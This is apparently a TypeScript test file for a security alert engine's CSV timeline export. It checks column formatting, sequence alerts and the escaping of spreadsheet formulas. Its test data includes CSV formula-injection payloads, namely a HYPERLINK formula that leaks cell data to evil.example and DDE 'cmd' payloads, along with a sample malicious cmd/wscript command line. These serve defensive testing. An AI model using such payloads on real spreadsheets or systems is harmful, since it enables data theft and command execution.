import { describe, expect, it } from 'vitest';
import {
  TIMELINE_COLUMNS,
  TIMELINE_EOL,
  buildEventAlert,
  buildSequenceAlerts,
  csvField,
  inTimeline,
  timelineHeader,
  timelineRow,
} from '../../../src/engine/alerts/index.js';
import { SYSMON_INDEX, foundingRule, sequenceRule, sysmonProcessStart } from './fixtures.js';

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') field += text[i++];
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

const CTX = { now: new Date('2025-03-14T10:35:00.000Z'), executionType: 'manual' as const };

function cells(row: string): Record<string, string> {
  const [parsed] = parseCsv(row + TIMELINE_EOL);
  return Object.fromEntries(TIMELINE_COLUMNS.map((c, i) => [c, parsed[i]]));
}

describe('CSV timeline', () => {
  it('has a header of quoted column names', () => {
    expect(parseCsv(timelineHeader() + TIMELINE_EOL)).toEqual([[...TIMELINE_COLUMNS]]);
  });

  it('describes a single-event alert in Hayabusa terms', () => {
    const doc = sysmonProcessStart();
    doc.log = { level: 'information', file: { path: 'C:\\triage\\Sysmon.evtx' } };
    const alert = buildEventAlert(foundingRule(), { doc, index: SYSMON_INDEX }, CTX);
    if (!alert) throw new Error('no alert');
    expect(cells(timelineRow(alert))).toEqual({
      Timestamp: '2025-03-14T10:31:58.004Z',
      RuleTitle: 'Suspicious Windows Command Shell Arguments',
      Level: 'high',
      Computer: 'WIN-FIN-07',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: '1',
      MitreTactics: 'TA0002 Execution; TA0011 Command and Control; TA0005 Defense Evasion',
      MitreTechniques:
        'T1059 Command and Scripting Interpreter; T1059.003 Windows Command Shell; T1105 Ingress Tool Transfer; ' +
        'T1027 Obfuscated Files or Information; T1218 System Binary Proxy Execution; T1218.005 Mshta; T1218.010 Regsvr32',
      User: 'CORP\\j.doe',
      Process: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c echo CreateObject("WScript.Shell").Run > %TEMP%\\a.vbs & wscript %TEMP%\\a.vbs',
      RecordID: '412778',
      SourceFile: 'C:\\triage\\Sysmon.evtx',
      Details: alert['kibana.alert.reason'],
      AlertID: alert['kibana.alert.uuid'],
      SequenceID: '',
    });
    expect(cells(timelineRow(alert, 'events.ndjson:12')).SourceFile).toBe('events.ndjson:12');
  });

  it('round-trips hostile values and neutralises formulas', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\tTAB',
      '\rCR',
      '＝1+1',
      'plain, with "quotes",\nand a newline\r\nand CRLF',
      '',
    ];
    const doc = sysmonProcessStart();
    const alert = buildEventAlert(foundingRule(), { doc, index: SYSMON_INDEX }, CTX);
    if (!alert) throw new Error('no alert');
    const text =
      timelineHeader() +
      TIMELINE_EOL +
      hostile
        .map((h) => timelineRow({ ...alert, process: { command_line: h }, 'kibana.alert.reason': h }, h) + TIMELINE_EOL)
        .join('');
    const rows = parseCsv(text);
    expect(rows).toHaveLength(hostile.length + 1);
    rows.slice(1).forEach((r, i) => {
      expect(r).toHaveLength(TIMELINE_COLUMNS.length);
      const expected = /^[=+\-@\t\r＝]/.test(hostile[i]) ? `'${hostile[i]}` : hostile[i];
      const col = (name: string) => r[TIMELINE_COLUMNS.indexOf(name as (typeof TIMELINE_COLUMNS)[number])];
      expect(col('CommandLine')).toBe(expected);
      expect(col('Details')).toBe(expected);
      expect(col('SourceFile')).toBe(expected);
    });
    expect(csvField('a"b')).toBe('"a""b"');
    expect(csvField('=1')).toBe(`"'=1"`);
  });

  it('gives sequences one row per building block and none for the shell', () => {
    const first = sysmonProcessStart();
    const second = { ...sysmonProcessStart(), '@timestamp': '2025-03-14T10:32:10.500Z' };
    const docs = buildSequenceAlerts(
      sequenceRule(),
      [
        { doc: first, index: SYSMON_INDEX },
        { doc: second, index: SYSMON_INDEX },
      ],
      CTX,
    );
    const rows = docs.filter(inTimeline).map((d) => cells(timelineRow(d)));
    expect(rows.map((r) => r.Timestamp)).toEqual(['2025-03-14T10:31:58.004Z', '2025-03-14T10:32:10.500Z']);
    expect(new Set(rows.map((r) => r.SequenceID))).toEqual(new Set([docs[0]['kibana.alert.uuid']]));
    expect(inTimeline(docs[0])).toBe(false);
  });
});
